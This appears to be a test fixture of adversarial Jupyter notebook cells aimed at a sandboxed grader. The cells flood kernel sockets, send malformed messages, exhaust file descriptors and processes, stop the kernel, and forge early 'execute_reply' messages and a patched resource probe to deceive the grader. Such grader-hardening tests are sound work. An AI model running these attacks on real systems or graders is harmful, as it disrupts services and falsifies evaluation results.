# %% attack flood-foreign: 1.6 GB of outputs that belong to no cell, from the memory of one
# %% cell
import time

import zmq

kernel = get_ipython().kernel
message = kernel.session.msg("stream", {"name": "stdout", "text": "x" * 20_000_000})
parts = [zmq.Frame(part) for part in kernel.session.serialize(message, [b"kernel.flood"])]
socket = kernel.iopub_thread.socket
for _ in range(80):
    socket.send_multipart(parts, copy=False)
    time.sleep(0.02)

# %% attack flood-foreign-thread: the same from a thread that goes on, message by message, during the tests
# %% cell
import threading


def flood(kernel=get_ipython().kernel):
    while True:
        kernel.session.send(kernel.iopub_thread, "stream", {"name": "stdout", "text": "x" * 1_000_000}, ident=b"flood")


threading.Thread(target=flood, daemon=True).start()

# %% attack flood-parts: one message of a hundred parts of 10 MB each, and then of two million empty ones
# %% cell
import zmq

kernel = get_ipython().kernel
parts = [zmq.Frame(part) for part in kernel.session.serialize(kernel.session.msg("status", {}), [b"flood"])]
big, empty = zmq.Frame(bytes(10_000_000)), zmq.Frame(b"")
kernel.iopub_thread.socket.send_multipart([*parts, *[big] * 100], copy=False)
kernel.iopub_thread.socket.send_multipart([*parts, *[empty] * 2_000_000], copy=False)

# %% attack flood-stdin: 1.2 GB of questions that nobody reads
# %% cell
import zmq

kernel = get_ipython().kernel
grader = kernel.get_parent("shell")["header"]["session"].encode()
parts = kernel.session.serialize(kernel.session.msg("input_request", {"prompt": "x" * 20_000_000}), [grader])
for _ in range(60):
    kernel.stdin_socket.send_multipart([zmq.Frame(part) for part in parts], copy=False)

# %% attack flood-replies: 1.2 GB of answers to what was never asked, over the channels for answers
# %% cell
import zmq

kernel = get_ipython().kernel
grader = kernel.get_parent("shell")["header"]["session"].encode()
parts = kernel.session.serialize(kernel.session.msg("execute_reply", {"status": "ok", "x": "x" * 20_000_000}), [grader])
for socket in kernel.parent.trait_values().values():
    if isinstance(socket, zmq.Socket) and socket.type == zmq.ROUTER:
        for _ in range(30):
            socket.send_multipart([zmq.Frame(part) for part in parts], copy=False)

# %% attack flood-lists: one message that is 18 million lists, and thirty of 3 million each
# %% cell
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
for count in (18_000_000, *[3_000_000] * 30):
    message = kernel.session.msg("display_data", {"data": {"text/plain": "PLACE"}, "metadata": {}}, parent)
    identity, delimiter, _signature, *parts = kernel.session.serialize(message, [b"kernel.display_data"])
    parts[3] = parts[3].replace(b'"PLACE"', b"[" + b"[]," * count + b"0]")
    kernel.iopub_thread.socket.send_multipart([identity, delimiter, kernel.session.sign(parts), *parts])

# %% attack flood-nested: lists in lists, a hundred thousand deep, in every part of a message
# %% cell
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
deep = b"[" * 100_000 + b"]" * 100_000
for place in range(4):
    message = kernel.session.msg("display_data", {"data": {"text/plain": "x"}, "metadata": {}}, parent)
    identity, delimiter, _signature, *parts = kernel.session.serialize(message, [b"kernel.display_data"])
    parts[place] = deep
    kernel.iopub_thread.socket.send_multipart([identity, delimiter, kernel.session.sign(parts), *parts])

# %% attack flood-tiny: half a million outputs of one character
# %% cell
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
for _ in range(500_000):
    kernel.session.send(kernel.iopub_thread, "stream", {"name": "stdout", "text": "x"}, parent, b"kernel.stream")

# %% attack flood-raw: bytes that are no message, written right into every connection to the grader
# %% cell
import os
import socket

for name in os.listdir("/proc/self/fd"):
    try:
        connection = socket.socket(fileno=os.dup(int(name)))
        if connection.family != socket.AF_UNIX:
            continue
        connection.settimeout(0.5)
        for data in (b"\x01\x00" * 5_000_000, b"\x02" + b"\x7f" * 8 + bytes(10_000_000), b"\xff" * 10_000_000):
            connection.sendall(data)
    except OSError:
        continue

# %% attack message-counts: messages that count cells by texts, dictionaries and numbers that are none
# %% cell
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
for count in ("<script>PWNED</script>", {"a": 1}, [1], -1, 1.5, True, 10**400, None):
    for kind in ("execute_input", "execute_result", "status"):
        content = {"execution_count": count, "execution_state": "busy", "code": "", "data": {"text/plain": "x"}}
        kernel.session.send(kernel.iopub_thread, kind, content | {"metadata": {}}, parent, b"kernel")

# %% attack message-fields: every kind of message with every field of a wrong type, or none at all
# %% cell
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
kinds = ("status", "execute_input", "clear_output", "stream", "display_data", "update_display_data", "execute_result")
kinds += ("error", "comm_open", "comm_msg", "execute_reply", "kernel_info_reply", "iopub_welcome", "no such thing")
fields = ("execution_state", "execution_count", "wait", "name", "text", "data", "metadata", "transient", "ename")
fields += ("evalue", "traceback", "status", "comm_id", "target_name", "protocol_version")
for value in ("\ud800", ["\udfff"], {"text/plain": ["\ud800", 1]}, {"display_id": []}, [[]], 7, None, True):
    for kind in kinds:
        for content in (dict.fromkeys(fields, value), {}, value):
            try:
                message = kernel.session.msg(kind, {}, parent) | {"content": content}
                kernel.session.send(kernel.iopub_thread, message, ident=b"kernel")
            except (TypeError, ValueError):
                pass

# %% attack message-headers: messages whose headers are no headers
# %% cell
kernel = get_ipython().kernel
for header in ([], "x", 7, {}, {"msg_id": [], "msg_type": {}}, {"msg_id": "a", "msg_type": "stream", "version": {}}):
    for parent in ([], "x", {}, {"msg_id": {}}, kernel.get_parent("shell")["header"]):
        message = kernel.session.msg("stream", {"name": "stdout", "text": "x"})
        identity, delimiter, _signature, *parts = kernel.session.serialize(message, [b"kernel"])
        parts[:2] = kernel.session.pack(header), kernel.session.pack(parent)
        kernel.iopub_thread.socket.send_multipart([identity, delimiter, kernel.session.sign(parts), *parts])

# %% attack message-reply: the reply to a cell names an error of the wrong types, before the kernel's own
# %% cell
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
identity = parent["header"]["session"].encode()
for content in ({"status": "error"}, {"status": "error", "ename": {}, "evalue": [], "traceback": 7}, {"status": {}}, {}):
    kernel.session.send(kernel.parent.shell_socket, "execute_reply", content, parent, [identity])

# %% attack never-ready: a cell that takes too long, behind which a thread never stops to say something
# %% cell
import threading
import time


def drip(kernel=get_ipython().kernel):
    while True:
        kernel.session.send(kernel.iopub_thread, "status", {"execution_state": "busy"}, ident=b"kernel")
        time.sleep(0.05)


threading.Thread(target=drip, daemon=True).start()
time.sleep(1000)

# %% attack lose-kernels: thirty cells, each of which ends the process
# %% notebook
from nbformat.v4 import new_code_cell

notebook.cells[1:1] = [new_code_cell(f"import os\nos._exit({number})") for number in range(30)]

# %% attack hoard-files: all open files that can be had, kept through the tests
# %% cell
hoard = []
try:
    while True:
        hoard.append(open("/dev/null"))
except OSError:
    pass

# %% attack hoard-processes: all processes that can be had, kept through the tests
# %% cell
import subprocess

hoard = []
try:
    while True:
        hoard.append(subprocess.Popen(["sleep", "608"]))
except OSError:
    pass

# %% attack hoard-at-random: every fresh kernel has another cell that leaves no room
# %% cell
import random

hoard = []
if random.random() < 0.5:
    try:
        while True:
            hoard.append(open("/dev/null"))
    except OSError:
        pass

# %% cell
if random.random() < 0.5:
    try:
        while True:
            hoard.append(open("/dev/zero"))
    except OSError:
        pass

# %% attack probe-lies: the answer to whether there is room is always that there is none
# %% cell
import sandboxed.probe


def check():
    raise MemoryError


sandboxed.probe.check = check


# %% solution
def double(x):
    return 0

# %% attack unasked-replies: replies to nothing without end, behind a cell that takes too long
# %% cell
import threading
import time

kernel = get_ipython().kernel
grader = kernel.get_parent("shell")["header"]["session"].encode()


def answer():
    while True:
        kernel.session.send(kernel.parent.shell_socket, "execute_reply", {"status": "ok"}, None, [grader])


threading.Thread(target=answer, daemon=True).start()
time.sleep(1000)

# %% attack early-reply: the cell says itself that it has come to its end, and goes on
# %% cell
import time

kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
grader = parent["header"]["session"].encode()
kernel.session.send(kernel.iopub_thread, "status", {"execution_state": "idle"}, parent, b"kernel")
kernel.session.send(kernel.parent.shell_socket, "execute_reply", {"status": "ok"}, parent, [grader])
time.sleep(1000)

# %% attack half-a-message: the beginning of one that never ends, on every connection
# %% cell
import os
import socket

for name in os.listdir("/proc/self/fd"):
    try:
        connection = socket.socket(fileno=os.dup(int(name)))
        if connection.family == socket.AF_UNIX:
            connection.settimeout(0.5)
            connection.sendall(b"\x02" + (1_000_000).to_bytes(8, "big") + b"x")
    except OSError:
        continue

# %% attack stops-itself: a kernel that neither reads, nor says anything, nor ends
# %% cell
import os
import signal

os.kill(os.getpid(), signal.SIGSTOP)
